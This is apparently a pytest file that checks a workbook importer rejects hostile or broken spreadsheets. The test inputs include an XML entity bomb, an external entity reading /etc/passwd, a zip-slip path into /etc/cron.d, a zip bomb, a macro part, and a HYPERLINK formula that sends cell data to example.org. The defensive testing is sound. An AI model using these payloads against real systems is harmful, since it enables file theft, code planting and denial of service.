"""Hostile and broken files in the place of the workbook of an impact analysis: refused with the reason, nothing
written."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import pytest

from holdfast.analysis.impact.models import Analysis
from holdfast.exchange.impact.comparing import preview
from holdfast.exchange.impact.exporting import impact_workbook
from holdfast.exchange.importing import BadFile
from tests.cast import TEST
from tests.exchange.test_impact_workbook import full, the_row

__all__ = ["full"]
PROCESSES = "xl/worksheets/sheet2.xml"
"""The part that holds the sheet of processes: the second."""
Change = Callable[[bytes], bytes]


def with_parts(data: bytes, change: Callable[[str, bytes], bytes], more: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, part in (more or {}).items():
            new.writestr(name, part)
    return out.getvalue()


def rows(*more: bytes) -> Change:
    """The workbook with more rows in the sheet of processes."""

    def change(data: bytes) -> bytes:
        end = b"".join(more) + b"</sheetData>"
        part = PROCESSES
        return with_parts(data, lambda name, old: old.replace(b"</sheetData>", end) if name == part else old)

    return change


def part(name: str, inside: bytes) -> Change:
    return lambda data: with_parts(data, lambda _name, old: old, {name: inside})


def entity_bomb(data: bytes) -> bytes:
    levels = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    bomb = b'<!DOCTYPE x [<!ENTITY l0 "ha">' + levels + b"]><worksheet"
    return with_parts(data, lambda name, old: old.replace(b"<worksheet", bomb, 1) if name == PROCESSES else old)


def many_rows(count: int) -> bytes:
    return b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(10, count + 10))


HOSTILE: list[tuple[str, Change, str]] = [
    ("sparse far cell", rows(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "something in cell XFD1048576"),
    (
        "far cell within the limits",
        rows(b'<row r="200000"><c r="OJ200000"><v>1</v></c></row>'),
        "longer than 50000 rows and wider",
    ),
    ("entity bomb", entity_bomb, "declares entities"),
    ("external entity", part("xl/more.xml", b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'), "declares entities"),
    ("zip slip", part("../../../etc/cron.d/harm", b"harm"), "leads out of the file"),
    ("macro", part("xl/vbaProject.bin", b"macro"), "has macros"),
    ("300,000 rows", rows(many_rows(300_000)), "at most 200000 rows"),
    ("zip bomb", part("xl/media/image1.png", b"\0" * (500 << 20)), "too large: unpacked at most 400 MB"),
    ("old format or password", lambda data: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + data, "password or the old format"),
    ("cut off", lambda data: data[:-300], "not a workbook"),
    ("something else", lambda data: b"name,key\n", "not a workbook"),
    ("nothing", lambda data: b"", "not a workbook"),
]


@pytest.mark.parametrize(("change", "why"), [one[1:] for one in HOSTILE], ids=[one[0] for one in HOSTILE])
def test_a_hostile_or_broken_file_is_refused_with_the_reason(full: Analysis, change: Change, why: str) -> None:
    data = change(impact_workbook(TEST, full))
    with pytest.raises(BadFile, match=re.escape(why)):
        preview(TEST, full, data)


def test_a_formula_is_named_with_its_cell_and_never_reckoned(full: Analysis) -> None:
    def change(name: str, data: bytes) -> bytes:
        if name != PROCESSES:
            return data
        cell = b'<c r="D3" t="str"><f>HYPERLINK("http://example.org/?"&amp;A1)</f><v>harmless</v></c>'
        found, count = re.subn(rb'<c r="D3".*?</c>', cell, data)
        assert count == 1
        return found

    found = preview(TEST, full, with_parts(impact_workbook(TEST, full), change))
    assert [(p.table, p.row, p.column, p.message) for p in found.problems] == [
        ("processes", 3, "why", "This cell holds a formula: paste its value.")
    ]
    assert the_row(full).why == "The building cannot be used without it."
